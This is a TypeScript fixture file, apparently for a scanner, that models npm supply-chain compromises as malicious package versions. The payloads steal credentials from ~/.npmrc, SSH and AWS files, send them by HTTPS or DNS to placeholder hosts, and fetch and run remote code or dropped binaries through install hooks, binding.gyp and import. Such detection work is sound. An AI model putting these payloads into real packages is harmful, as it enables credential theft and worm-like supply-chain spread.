import { base64, hex } from '../matrix/forms.ts'
import { behindBlanks, ELF, protectedJs } from './disguises.ts'
import { entryJs, npm, type Incident } from './incident.ts'

const clean = npm()
const STEALER =
  "const os = require('os'); const fs = require('fs'); const https = require('https');\nconst loot = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nconst r = https.request('https://t.m-kosche.invalid/collect', { method: 'POST' }); r.end(JSON.stringify(loot));"

/** npm, May to July 2026. */
export const NPM_2026_SUMMER: readonly Incident[] = [
  {
    id: 'ironworm',
    case: 'IronWorm',
    when: '2026-06',
    trigger: 'preinstall',
    before: clean,
    now: npm({ 'bin/setup': ELF }, { scripts: { preinstall: 'chmod +x ./bin/setup && ./bin/setup' } }),
  },
  {
    id: 'tanstack',
    case: 'TanStack router, 42 packages',
    when: '2026-05',
    trigger: 'dependency of an orphan commit',
    before: clean,
    now: npm(
      { 'router_init.js': protectedJs(STEALER) },
      {
        manifest: {
          optionalDependencies: {
            '@tanstack/setup': 'github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c',
          },
        },
      },
    ),
  },
  {
    id: 'squawk',
    case: '@squawk, 110 versions',
    when: '2026-05',
    trigger: 'dependency of an orphan commit, prepare',
    before: clean,
    now: npm(
      {},
      {
        scripts: { prepare: 'bun run tanstack_runner.js && exit 1' },
        manifest: {
          optionalDependencies: { '@squawk/setup': 'github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c' },
        },
      },
    ),
  },
  {
    id: 'antv',
    case: 'AntV, atool: 323 packages',
    when: '2026-05',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      { 'index.js': protectedJs(STEALER) },
      {
        scripts: { preinstall: 'bun run index.js' },
        manifest: {
          optionalDependencies: { '@antv/setup': 'github:antvis/G2#1916faa365f2788b6e193514872d51a242876569' },
        },
      },
    ),
  },
  {
    id: 'node-ipc-2026',
    case: 'node-ipc 12.0.1',
    when: '2026-05',
    trigger: 'require, not import',
    before: npm(
      { 'node-ipc.cjs': 'exports.ipc = {};\n', 'node-ipc.mjs': 'export const ipc = {};\n' },
      { manifest: { exports: { '.': { import: './node-ipc.mjs', require: './node-ipc.cjs' } } } },
    ),
    now: npm(
      {
        'node-ipc.cjs': `exports.ipc = {};\n${protectedJs("const dns = require('dns'); const fs = require('fs'); const os = require('os'); const zlib = require('zlib');\nconst files = ['/.npmrc', '/.aws/credentials', '/.ssh/id_rsa', '/.kube/config'].map((f) => { try { return fs.readFileSync(os.homedir() + f); } catch { return Buffer.alloc(0); } });\nconst hex = zlib.gzipSync(Buffer.concat(files)).toString('hex');\nfor (let i = 0; i < hex.length; i += 60) dns.resolveTxt(hex.slice(i, i + 60) + '.' + i + '.sh.azurestaticprovider.invalid', () => {});")}\n`,
        'node-ipc.mjs': 'export const ipc = {};\n',
      },
      { manifest: { exports: { '.': { import: './node-ipc.mjs', require: './node-ipc.cjs' } } } },
    ),
  },
  {
    id: 'redhat',
    case: '@redhat-cloud-services, 32 packages',
    when: '2026-06',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      {
        'dist/postbuild.js': protectedJs(
          "const cp = require('child_process'); const os = require('os'); const fs = require('fs');\nconst npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\ncp.execSync('npm whoami'); cp.execSync('npm publish --provenance --access public');\nfetch('https://miasma.invalid/in', { method: 'POST', body: JSON.stringify({ npmrc, env: process.env }) });",
        ),
      },
      { scripts: { preinstall: 'node dist/postbuild.js' } },
    ),
  },
  {
    id: 'phantom-gyp',
    case: 'Phantom Gyp, 57 packages',
    when: '2026-06',
    trigger: 'binding.gyp',
    before: clean,
    now: npm({
      'binding.gyp':
        '{ "targets": [ { "target_name": "Setup", "type": "none", "sources": ["<!(node lib/index.js > /dev/null 2>&1 && echo stub.c)"] } ] }\n',
      'lib/index.js': protectedJs(STEALER),
    }),
  },
  {
    id: 'mastra',
    case: 'mastra: easy-day-js',
    when: '2026-06',
    trigger: 'postinstall',
    now: npm(
      {
        'setup.cjs': protectedJs(
          "const cp = require('child_process'); const os = require('os'); const path = require('path'); const fs = require('fs');\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\nconst file = path.join(os.tmpdir(), Math.random().toString(36).slice(2) + '.js');\nfetch('https://203.0.113.90:8000/update/49890878').then((r) => r.text()).then((t) => { fs.writeFileSync(file, t); cp.spawn('node', [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref(); fs.rmSync(__filename); });",
        ),
      },
      { scripts: { postinstall: 'node setup.cjs --no-warnings' } },
    ),
  },
  {
    id: 'leoplatform',
    case: 'LeoPlatform, RStreams',
    when: '2026-06',
    trigger: 'binding.gyp',
    before: clean,
    now: npm({
      'binding.gyp':
        '{"targets":[{"target_name":"x","type":"none","actions":[{"action_name":"a","inputs":[],"outputs":["o"],"action":["node","index.js"]}]}]}\n',
      'index.js': protectedJs(STEALER),
    }),
  },
  {
    id: 'immobiliare',
    case: '@immobiliarelabs Backstage plug-ins',
    when: '2026-06',
    trigger: 'preinstall',
    before: clean,
    now: npm({ 'setup.js': protectedJs(STEALER) }, { scripts: { preinstall: 'node setup.js' } }),
  },
  {
    id: 'art-template',
    case: 'art-template',
    when: '2026-05',
    trigger: 'bundle for browsers',
    before: npm({ 'lib/template-web.js': 'window.template = {};\n' }, { manifest: { browser: 'lib/template-web.js' } }),
    now: npm(
      {
        'lib/template-web.js': `window.template = {};\n;(function(){var s=document.createElement('script');s.async=true;s.src=atob('${base64('https://v3.jiathis.invalid/code/art.js')}');document.head.appendChild(s);})();\n`,
      },
      { manifest: { browser: 'lib/template-web.js' } },
    ),
  },
  {
    id: 'elf-library',
    case: 'jscrambler 8.14',
    when: '2026-07',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      {
        'dist/setup.js':
          "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst zlib = require('zlib');\nconst { spawn } = require('child_process');\nconst out = path.join(os.tmpdir(), '.' + process.pid);\nfs.writeFileSync(out, zlib.brotliDecompressSync(fs.readFileSync(path.join(__dirname, 'intro.js'))));\nfs.chmodSync(out, 0o755);\nspawn(out, [], { detached: true, stdio: 'ignore' }).unref();\n",
        'dist/intro.js': Buffer.concat([Buffer.from(hex('packed'), 'hex'), ELF]),
      },
      { scripts: { preinstall: 'node dist/setup.js' } },
    ),
  },
  {
    id: 'jscrambler-import',
    case: 'jscrambler 8.18',
    when: '2026-07',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs("require('./dist/setup.js');"),
      'dist/setup.js':
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst zlib = require('zlib');\nconst { spawn } = require('child_process');\nconst out = path.join(os.tmpdir(), '.' + process.pid);\nfs.writeFileSync(out, zlib.brotliDecompressSync(fs.readFileSync(path.join(__dirname, 'intro.js'))));\nfs.chmodSync(out, 0o755);\nspawn(out, [], { detached: true, stdio: 'ignore' }).unref();\n",
      'dist/intro.js': ELF,
    }),
  },
  {
    id: 'asyncapi',
    case: '@asyncapi/generator 3.3.1',
    when: '2026-07',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs(
        behindBlanks(
          'const version = 3;',
          "const cp = require('child_process');\nconst fs = require('fs');\nconst os = require('os');\nconst p = require('path').join(os.tmpdir(), '.npm-cache.js');\nfetch('https://ipfs.invalid/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi').then((r) => r.text()).then((t) => { fs.writeFileSync(p, t); cp.spawn(process.execPath, [p], { detached: true, stdio: 'ignore', windowsHide: true }).unref(); });",
        ),
      ),
    }),
  },
]
